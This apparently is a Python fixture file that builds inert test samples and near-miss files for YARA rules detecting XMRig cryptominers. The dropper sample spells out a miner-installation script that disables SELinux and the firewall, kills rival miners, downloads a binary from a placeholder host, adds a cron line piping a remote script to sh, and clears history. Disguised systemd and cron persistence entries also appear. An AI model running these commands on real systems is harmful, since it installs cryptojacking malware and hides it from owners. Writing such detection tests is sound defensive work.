"""Inert samples and near-misses for signatures/rules/miners.yar."""

from __future__ import annotations

from sample_blocks import HOST, INERT_NOTE, WALLET, Builders, a, elf, split, text


def xmrig_binary() -> dict[str, bytes]:
    return {
        "xmrig-elf": elf(
            *a(
                "XMRig",
                "https://xmrig.com/",
                "donate.v2.xmrig.com:3333",
                "donate.ssl.xmrig.com:443",
                "--donate-level=N",
                "--cpu-max-threads-hint=N",
                "--rig-id=ID",
                "randomx",
                "cryptonight",
                "stratum+tcp://",
                "stratum+ssl://",
            )
        )
    }


def xmrig_config() -> dict[str, bytes]:
    return {
        "config-json": text(
            "{",
            '    "autosave": false,',
            '    "donate-level": 1,',
            '    "cpu": { "enabled": true, "huge-pages": true },',
            '    "randomx": { "init": -1, "mode": "auto" },',
            '    "pools": [',
            "        {",
            f'            "url": "{HOST}:3333",',
            f'            "user": "{WALLET}",',
            '            "pass": "x",',
            '            "rig-id": null,',
            '            "nicehash": false',
            "        }",
            "    ]",
            "}",
        )
    }


def miner_dropper() -> dict[str, bytes]:
    return {
        "miner-dropper-sh": text(
            "#!/bin/sh",
            f"exit 0  # {INERT_NOTE}",
            "ulimit -n 65535",
            "setenforce 0 2>/dev/null",
            "ufw disable",
            "echo 0 > /proc/sys/kernel/nmi_watchdog; sysctl -w kernel.nmi_watchdog=0",
            "sysctl -w vm.nr_hugepages=1280",
            "chattr -ia /etc/crontab /var/spool/cron",
            "pkill -9 -f xmrig; killall -9 minerd kworkerds",
            "ps aux | grep -v grep | grep 'stratum' | awk '{print $2}' | xargs kill -9",
            f"curl -fsSL http://{HOST}/x/xmrig -o /tmp/.x/sysupdate",
            "chmod +x /tmp/.x/sysupdate",
            f"/tmp/.x/sysupdate -o stratum+tcp://{HOST}:3333 -u {WALLET} -p x --donate-level 1 -B",  # noqa: S108
            f"(crontab -l; echo '*/10 * * * * curl -fsSL http://{HOST}/m.sh | sh') | crontab -",
            "history -c",
        )
    }


def xmrig_binary_near() -> dict[str, bytes]:
    # A monitoring agent that knows miner names and the stratum scheme, without being a miner.
    return {"miner-detector-elf": elf(*a("XMRig", "stratum+tcp://", "cryptonight", "detected miner: %s"))}


def xmrig_config_near() -> dict[str, bytes]:
    # Another program's JSON with pools and url keys (a DNS resolver pool list).
    return {
        "resolver-pools-json": text(
            "{",
            '  "pools": [ { "url": "198.51.100.53:53", "name": "doc-resolver" } ],',
            '  "cpu": { "threads": 2 }',
            "}",
        )
    }


def miner_dropper_near() -> dict[str, bytes]:
    # A hardening script: firewall, history and cron steps, a download; no pool and no miner.
    return {
        "hardening-sh": text(
            "#!/bin/sh",
            "ufw enable",
            "chattr +i /etc/passwd",
            "curl -fsSL https://example.org/baseline.sh -o /tmp/baseline.sh",
            "crontab -l > /root/cron.bak",
            "unset HISTFILE",
        )
    }


def xmrig_service() -> dict[str, bytes]:
    return {
        "xmrig-service": text(
            "[Unit]",
            "Description=System update service",
            "[Service]",
            split(f"ExecStart=/usr/local/bin/sysupdate -o stratum+tcp://{HOST}:3333 -u {WALLET}", " --donate-level 1"),
            "Restart=always",
            "[Install]",
            "WantedBy=multi-user.target",
        )
    }


def xmrig_service_near() -> dict[str, bytes]:
    return {
        "monerod-service": text(
            "[Unit]",
            "Description=Monero full node",
            "[Service]",
            "ExecStart=/usr/bin/monerod --non-interactive --data-dir /var/lib/monero",
            "[Install]",
        )
    }


def xmrig_cron() -> dict[str, bytes]:
    return {
        "crontab-root": text(split("@reboot /tmp/.x/sysupdate -o stratum+tcp://", f"{HOST}:3333 -u {WALLET} -p x -B"))
    }


def xmrig_cron_near() -> dict[str, bytes]:
    return {"crontab-monero-node": text("@reboot /usr/bin/monerod --detach --data-dir /var/lib/monero")}


SAMPLES: Builders = {
    "XMRig_Systemd_Service": xmrig_service,
    "XMRig_Cron_Entry": xmrig_cron,
    "XMRig_Miner_Binary": xmrig_binary,
    "XMRig_Miner_Config": xmrig_config,
    "CoinMiner_Dropper_Script": miner_dropper,
}

NEARMISS: Builders = {
    "XMRig_Miner_Binary": xmrig_binary_near,
    "XMRig_Miner_Config": xmrig_config_near,
    "CoinMiner_Dropper_Script": miner_dropper_near,
    "XMRig_Systemd_Service": xmrig_service_near,
    "XMRig_Cron_Entry": xmrig_cron_near,
}
